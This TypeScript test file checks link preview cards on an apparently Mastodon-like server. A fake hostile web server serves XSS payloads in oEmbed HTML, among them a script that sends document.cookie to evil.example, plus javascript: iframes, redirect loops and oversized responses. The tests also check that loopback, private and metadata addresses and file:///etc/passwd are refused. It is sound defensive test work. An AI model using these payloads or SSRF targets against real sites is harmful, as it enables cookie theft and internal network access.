import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cardTestHooks } from '../../api/core/cards/fetch.js';
import { cardsIdle } from '../../api/core/cards/install.js';
import { IFRAME_SANDBOX } from '../../api/core/cards/oembed.js';
import { isForbiddenAddress, safeFetch } from '../../api/util/safe-fetch.js';
import { blurhashComponents } from '../../api/media/blurhash.js';
import { startInstance, type TestInstance, type TestUser } from '../helpers/instance.js';
import { count, download } from './helpers.js';

/**
 * A small web server standing in for the sites people link to, including hostile ones: scripts in
 * oEmbed HTML, a redirect loop, a slow answer, an endless one, a huge one.
 */
class FakeWeb {
  server!: Server;
  base = '';
  readonly hits: string[] = [];
  private image!: Buffer;
  private readonly open = new Set<ServerResponse>();

  async start(): Promise<void> {
    this.image = await sharp({ create: { width: 1200, height: 630, channels: 3, background: { r: 30, g: 90, b: 200 } } }).jpeg().toBuffer();
    this.server = createServer((req, res) => this.handle(req, res));
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.base = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    for (const res of this.open) res.destroy();
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  private page(head: string): string {
    return `<!doctype html><html lang="en-GB"><head><meta charset="utf-8">${head}</head><body><p>body text</p><script>alert('page')</script></body></html>`;
  }

  private handle(req: IncomingMessage, res: ServerResponse): void {
    const path = new URL(req.url ?? '/', this.base).pathname;
    this.hits.push(path);
    const html = (body: string) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(body);
    };
    const json = (body: unknown) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    };
    switch (path) {
      case '/article':
        return html(
          this.page(
            `<title>Fallback title</title><meta property="og:title" content="An &amp; article"><meta property="og:description" content="What it is about">` +
              `<meta property="og:image" content="/image.jpg"><meta property="og:site_name" content="Fake News"><meta name="author" content="A. Writer">` +
              `<meta property="article:published_time" content="2024-05-01T10:00:00Z">`,
          ),
        );
      case '/image.jpg':
        res.writeHead(200, { 'content-type': 'image/jpeg' });
        return void res.end(this.image);
      case '/video':
        return html(this.page(`<title>A video</title><link rel="alternate" type="application/json+oembed" href="/oembed/video.json">`));
      case '/oembed/video.json':
        return json({
          type: 'video',
          version: '1.0',
          title: 'Player title',
          author_name: 'Channel',
          author_url: 'https://www.youtube.com/@channel',
          provider_name: 'YouTube',
          provider_url: 'https://www.youtube.com/',
          width: 480,
          height: 270,
          html: '<iframe width="480" height="270" src="https://www.youtube.com/embed/abc123?feature=oembed" frameborder="0" allow="autoplay" onload="alert(1)" allowfullscreen></iframe><script src="https://evil.example/x.js"></script>',
          thumbnail_url: `${this.base}/image.jpg`,
        });
      case '/hostile':
        return html(this.page(`<meta property="og:title" content="Hostile"><link rel="alternate" type="application/json+oembed" href="/oembed/hostile.json">`));
      case '/oembed/hostile.json':
        return json({
          type: 'video',
          version: '1.0',
          title: 'Totally a video',
          width: 100,
          height: 100,
          html: '<script>document.location="https://evil.example/?c="+document.cookie</script><iframe src="https://evil.example/player"></iframe><iframe src="javascript:alert(1)"></iframe>',
        });
      case '/rich':
        return html(this.page(`<meta property="og:title" content="Rich"><link rel="alternate" type="application/json+oembed" href="/oembed/rich.json">`));
      case '/oembed/rich.json':
        return json({ type: 'rich', version: '1.0', title: 'Rich embed', html: '<iframe src="https://w.soundcloud.com/player/?url=x"></iframe><script>x()</script>' });
      case '/loop':
        res.writeHead(302, { location: '/loop' });
        return void res.end();
      case '/hop1':
      case '/hop2':
      case '/hop3':
        res.writeHead(301, { location: `/hop${Number(path.slice(4)) + 1}` });
        return void res.end();
      case '/hop4':
        res.writeHead(302, { location: '/article' });
        return void res.end();
      case '/three-hops':
        res.writeHead(302, { location: '/hop3' });
        return void res.end();
      case '/slow': {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.write('<html><head><meta property="og:title" content="Slow">');
        this.open.add(res);
        const timer = setInterval(() => res.write(' '), 100);
        res.on('close', () => clearInterval(timer));
        return;
      }
      case '/endless': {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.write('<html><head><meta property="og:title" content="Endless">');
        this.open.add(res);
        const chunk = Buffer.alloc(64 * 1024, 'a');
        const pump = () => {
          while (res.write(chunk)) {
            /* fill the socket until it pushes back */
          }
        };
        res.on('drain', pump);
        pump();
        return;
      }
      case '/huge':
        res.writeHead(200, { 'content-type': 'text/html', 'content-length': String(50 * 1024 * 1024) });
        return void res.write('<html>');
      case '/picture':
        res.writeHead(200, { 'content-type': 'image/jpeg' });
        return void res.end(this.image);
      default:
        res.writeHead(404, { 'content-type': 'text/plain' });
        res.end('not found');
    }
  }
}

describe('preview cards', () => {
  let inst: TestInstance;
  let alice: TestUser;
  const web = new FakeWeb();

  beforeAll(async () => {
    await web.start();
    inst = await startInstance({ federationAllowLoopback: true });
    alice = await inst.createUser('alice');
  });
  afterAll(async () => {
    await inst.close();
    await web.stop();
  });
  afterEach(() => {
    cardTestHooks.timeoutMs = null;
  });

  async function postAndWait(text: string, visibility = 'public'): Promise<{ id: string }> {
    const res = await alice.client.post('/api/v1/statuses', { status: text, visibility });
    expect(res.status, res.text).toBe(200);
    expect(res.body.card).toBeNull();
    await cardsIdle(inst.deps);
    return res.body;
  }

  it('OpenGraph: title, description, site, author, date and the picture, downloaded, resized and blurhashed', async () => {
    const status = await postAndWait(`read this ${web.base}/article and that ${web.base}/video`);
    const res = await alice.client.get(`/api/v1/statuses/${status.id}`);
    const card = res.body.card;
    expect(card).toMatchObject({
      url: `${web.base}/article`,
      type: 'link',
      title: 'An & article',
      description: 'What it is about',
      provider_name: 'Fake News',
      author_name: 'A. Writer',
      language: 'en',
      html: '',
      published_at: '2024-05-01T10:00:00.000Z',
    });
    expect(card.image).toMatch(new RegExp(`^${inst.url}/system/preview_cards/images/.*/original/[0-9a-f]{16}\\.jpeg$`));
    expect(blurhashComponents(card.blurhash)).toEqual({ x: 4, y: 4 });
    const stored = await sharp(await download(card.image)).metadata();
    expect(Math.max(stored.width ?? 0, stored.height ?? 0)).toBe(640);
    expect({ width: card.width, height: card.height }).toEqual({ width: stored.width, height: stored.height });
    const direct = await inst.anon.get(`/api/v1/statuses/${status.id}/card`);
    expect(direct.status).toBe(200);
    expect(direct.body).toEqual(card);
  });

  it('oEmbed video: only the allowed iframe survives, rebuilt with a sandbox', async () => {
    const status = await postAndWait(`${web.base}/video`);
    const card = (await alice.client.get(`/api/v1/statuses/${status.id}`)).body.card;
    expect(card).toMatchObject({ type: 'video', title: 'Player title', author_name: 'Channel', provider_name: 'YouTube', width: 480, height: 270 });
    expect(card.html).toBe(
      `<iframe src="https://www.youtube.com/embed/abc123?feature=oembed" width="480" height="270" frameborder="0" allowfullscreen="true" sandbox="${IFRAME_SANDBOX}"></iframe>`,
    );
    expect(card.authors).toEqual([{ name: 'Channel', url: 'https://www.youtube.com/@channel', account: null }]);
    expect(card.image).not.toBeNull();
  });

  it('hostile oEmbed: scripts and foreign iframes are dropped, the card falls back to a plain link', async () => {
    const status = await postAndWait(`${web.base}/hostile`);
    const card = (await alice.client.get(`/api/v1/statuses/${status.id}/card`)).body;
    expect(card.type).toBe('link');
    expect(card.html).toBe('');
    expect(card.title).toBe('Totally a video');
    expect(JSON.stringify(card)).not.toMatch(/<script|<iframe|evil\.example|javascript:/);
    // Rich embeds are not taken either (Mastodon's rule: they rely on scripts).
    const rich = await postAndWait(`${web.base}/rich`);
    const richCard = (await alice.client.get(`/api/v1/statuses/${rich.id}/card`)).body;
    expect(richCard).toMatchObject({ type: 'link', title: 'Rich embed', html: '' });
  });

  it('redirects: three are followed, a loop and a fourth are not', async () => {
    const ok = await postAndWait(`${web.base}/three-hops`);
    expect((await alice.client.get(`/api/v1/statuses/${ok.id}/card`)).body).toMatchObject({ title: 'An & article', url: `${web.base}/three-hops` });
    const loop = await postAndWait(`${web.base}/loop`);
    expect((await alice.client.get(`/api/v1/statuses/${loop.id}/card`)).body).toEqual({});
    expect(web.hits.filter((h) => h === '/loop')).toHaveLength(4);
    const four = await postAndWait(`${web.base}/hop1`);
    expect((await alice.client.get(`/api/v1/statuses/${four.id}/card`)).body).toEqual({});
  });

  it('slow, endless and huge answers are cut off; no card', async () => {
    cardTestHooks.timeoutMs = 600;
    const started = Date.now();
    const slow = await postAndWait(`${web.base}/slow`);
    expect(Date.now() - started).toBeLessThan(5000);
    expect((await alice.client.get(`/api/v1/statuses/${slow.id}`)).body.card).toBeNull();
    cardTestHooks.timeoutMs = 10_000;
    const endless = await postAndWait(`${web.base}/endless`);
    expect((await alice.client.get(`/api/v1/statuses/${endless.id}`)).body.card).toBeNull();
    const huge = await postAndWait(`${web.base}/huge`);
    expect((await alice.client.get(`/api/v1/statuses/${huge.id}`)).body.card).toBeNull();
    // Not a page at all.
    const picture = await postAndWait(`${web.base}/picture`);
    expect((await alice.client.get(`/api/v1/statuses/${picture.id}`)).body.card).toBeNull();
  });

  it('private and direct statuses get no card; an edit to another link changes the card, removing it removes the card', async () => {
    const before = web.hits.length;
    const priv = await postAndWait(`${web.base}/article`, 'private');
    expect((await alice.client.get(`/api/v1/statuses/${priv.id}`)).body.card).toBeNull();
    expect(web.hits.length).toBe(before);

    const status = await postAndWait(`first ${web.base}/article`, 'unlisted');
    expect((await alice.client.get(`/api/v1/statuses/${status.id}`)).body.card.title).toBe('An & article');
    // The article's card is reused: fetched once, not again.
    expect(web.hits.length).toBe(before);
    await alice.client.put(`/api/v1/statuses/${status.id}`, { status: `now ${web.base}/video` });
    await cardsIdle(inst.deps);
    expect((await alice.client.get(`/api/v1/statuses/${status.id}`)).body.card.type).toBe('video');
    await alice.client.put(`/api/v1/statuses/${status.id}`, { status: 'no link any more' });
    await cardsIdle(inst.deps);
    expect((await alice.client.get(`/api/v1/statuses/${status.id}`)).body.card).toBeNull();
    expect(count(inst, 'preview_cards_statuses', 'status_id = @id', { id: status.id })).toBe(0);
  });

  it('timelines show the card once it arrives (rendered statuses are refreshed)', async () => {
    const res = await alice.client.post('/api/v1/statuses', { status: `fresh ${web.base}/video?t=1` });
    const before = await alice.client.get('/api/v1/timelines/public?local=true');
    const early = before.body.find((s: { id: string }) => s.id === res.body.id);
    await cardsIdle(inst.deps);
    const after = await alice.client.get('/api/v1/timelines/public?local=true');
    const late = after.body.find((s: { id: string }) => s.id === res.body.id);
    expect(late.card).toMatchObject({ type: 'video', url: `${web.base}/video?t=1` });
    // Whether the first read came before the card or not, the second one has it.
    expect(early === undefined || early.card === null || early.card.type === 'video').toBe(true);
  });

  it('links to reserved names (example.com, .test) are never fetched: the next link gets the card', async () => {
    const status = await postAndWait(`see https://example.com/page and https://shop.test/x then ${web.base}/article`);
    expect((await alice.client.get(`/api/v1/statuses/${status.id}/card`)).body.url).toBe(`${web.base}/article`);
  });

  it('GET /api/v1/statuses/:id/card follows the status visibility', async () => {
    const priv = await postAndWait('nothing to see', 'private');
    expect((await inst.anon.get(`/api/v1/statuses/${priv.id}/card`)).status).toBe(404);
    expect((await alice.client.get(`/api/v1/statuses/${priv.id}/card`)).body).toEqual({});
    expect((await inst.anon.get('/api/v1/statuses/999/card')).status).toBe(404);
    expect((await inst.anon.get('/api/v1/statuses/x/card')).status).toBe(404);
    expect((await inst.anon.get(`/api/v1/statuses/${priv.id}/card`, { token: 'bad' })).status).toBe(401);
  });
});

describe('preview cards never reach private addresses without the test switch', () => {
  const web = new FakeWeb();
  let inst: TestInstance;

  beforeAll(async () => {
    await web.start();
    inst = await startInstance();
  });
  afterAll(async () => {
    await inst.close();
    await web.stop();
  });

  it('a loopback link gets no card and no request is made', async () => {
    const alice = await inst.createUser('alice');
    const res = await alice.client.post('/api/v1/statuses', { status: `${web.base}/article http://localhost:${new URL(web.base).port}/article` });
    await cardsIdle(inst.deps);
    expect((await alice.client.get(`/api/v1/statuses/${res.body.id}`)).body.card).toBeNull();
    expect(web.hits).toEqual([]);
  });

  it('refuses private addresses by literal, by name and after a redirect', async () => {
    const port = new URL(web.base).port;
    const options = { timeoutMs: 2000, maxBytes: 1024, maxRedirects: 3, allowPrivate: false, accept: '*/*', userAgent: 'test' };
    for (const url of [`http://127.0.0.1:${port}/article`, `http://localhost:${port}/article`, `http://[::1]:${port}/article`, `http://0x7f000001:${port}/article`]) {
      await expect(safeFetch(url, options), url).rejects.toMatchObject({ reason: 'forbidden_address' });
    }
    await expect(safeFetch('file:///etc/passwd', options)).rejects.toMatchObject({ reason: 'bad_url' });
    await expect(safeFetch(`http://user:pw@example.com/`, options)).rejects.toMatchObject({ reason: 'bad_url' });
    // With private addresses allowed (the test switch), the same server is reachable.
    const allowed = { ...options, allowPrivate: true, maxBytes: 1024 * 1024 };
    expect((await safeFetch(`${web.base}/article`, allowed)).contentType).toBe('text/html');
    expect(web.hits).toEqual(['/article']);
  });

  it('classifies special addresses', () => {
    for (const a of ['127.0.0.1', '10.1.2.3', '172.16.0.1', '192.168.1.1', '169.254.169.254', '100.64.0.1', '0.0.0.0', '224.0.0.1', '::1', '::', 'fe80::1', 'fc00::1', 'fd12:3456::1', '::ffff:127.0.0.1', '::ffff:7f00:1', '64:ff9b::10.0.0.1', 'ff02::1']) {
      expect(isForbiddenAddress(a), a).toBe(true);
    }
    for (const a of ['93.184.216.34', '1.1.1.1', '2606:4700::1111', '::ffff:1.1.1.1', '64:ff9b::1.1.1.1']) {
      expect(isForbiddenAddress(a), a).toBe(false);
    }
  });
});
